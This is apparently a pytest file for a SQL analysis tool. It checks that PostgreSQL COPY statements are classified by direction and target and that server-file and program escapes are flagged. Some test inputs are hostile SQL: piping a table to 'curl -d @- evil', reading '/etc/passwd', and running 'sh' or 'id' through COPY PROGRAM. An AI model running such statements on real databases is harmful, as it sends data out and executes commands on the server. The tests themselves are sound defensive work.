"""COPY: direction, endpoint, server-side escapes."""

from __future__ import annotations

import pytest

from bastion.sql.statement import CopyInfo

from .helpers import names, one

COPIES = [
    ("COPY t TO STDOUT", CopyInfo("to", "stdout"), {"t"}, set()),
    ("COPY t (a, b) TO STDOUT WITH (FORMAT csv)", CopyInfo("to", "stdout"), {"t"}, set()),
    ("COPY t FROM STDIN", CopyInfo("from", "stdin"), set(), {"t"}),
    ("COPY (SELECT * FROM t) TO STDOUT", CopyInfo("to", "stdout", query=True), {"t"}, set()),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        CopyInfo("to", "stdout", query=True),
        {"t"},
        {"t"},
    ),
    ("COPY t TO '/tmp/t.csv'", CopyInfo("to", "file", "/tmp/t.csv"), {"t"}, set()),
    ("COPY t FROM '/etc/passwd'", CopyInfo("from", "file", "/etc/passwd"), set(), {"t"}),
    (
        "COPY t TO PROGRAM 'curl -d @- evil'",
        CopyInfo("to", "program", "curl -d @- evil"),
        {"t"},
        set(),
    ),
    ("COPY t FROM PROGRAM 'id'", CopyInfo("from", "program", "id"), set(), {"t"}),
    ("COPY (SELECT 1) TO PROGRAM 'sh'", CopyInfo("to", "program", "sh", query=True), set(), set()),
]


@pytest.mark.parametrize(("sql", "copy", "read", "written"), COPIES, ids=[c[0] for c in COPIES])
def test_copy(sql: str, copy: CopyInfo, read: set[str], written: set[str]) -> None:
    info = one(sql)
    assert info.kind == "copy"
    assert info.copy == copy
    assert names(info.tables_read) == read
    assert names(info.tables_written) == written
    assert ("copy_program" in info.flags) is (copy.target == "program")
    assert ("copy_server_file" in info.flags) is (copy.target == "file")


def test_copy_query_statement_is_listed() -> None:
    info = one("COPY (DELETE FROM t RETURNING *) TO STDOUT")
    assert [inner.kind for inner in info.inner] == ["delete"]


def test_non_copy_statements_have_no_copy_info() -> None:
    assert one("SELECT 1").copy is None
